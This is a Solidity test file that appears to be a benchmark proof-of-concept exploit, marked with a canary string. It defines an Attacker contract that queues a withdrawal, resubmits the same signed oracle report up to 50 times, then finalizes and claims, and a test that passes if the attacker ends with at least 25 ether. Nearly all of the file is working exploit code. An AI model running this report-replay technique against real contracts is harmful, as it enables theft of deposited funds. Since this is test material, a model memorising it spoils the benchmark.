// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Attacker {
    uint256 private id;

    function ask(StakeToken token, WithdrawalQueue queue) external {
        token.approve(address(queue), type(uint256).max);
        id = queue.request(12 ether, address(this));
    }

    function run(
        WithdrawalQueue queue,
        StakePool pool,
        ReportOracle oracle,
        IReports.Report calldata report,
        bytes[] calldata signatures
    ) external {
        for (uint256 i = 0; i < 50; i++) {
            try oracle.submit(report, signatures) {} catch {
                break;
            }
        }
        pool.finalize(1);
        queue.claim(id, queue.findHint(id), address(this));
    }

    receive() external payable {}
}

contract Proof is Base {
    Attacker private other;
    bytes[] private signatures;

    function _start() internal override {
        other = new Attacker();
        token.transfer(address(other), 12 ether);
        signatures = _signed(_report(3, 13 ether, 0));
    }

    function exploit() public {
        other.ask(token, queue);
        vm.warp(block.timestamp + 1 days);
        other.run(queue, pool, oracle, _report(3, 13 ether, 0), signatures);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 25 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(oracle);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
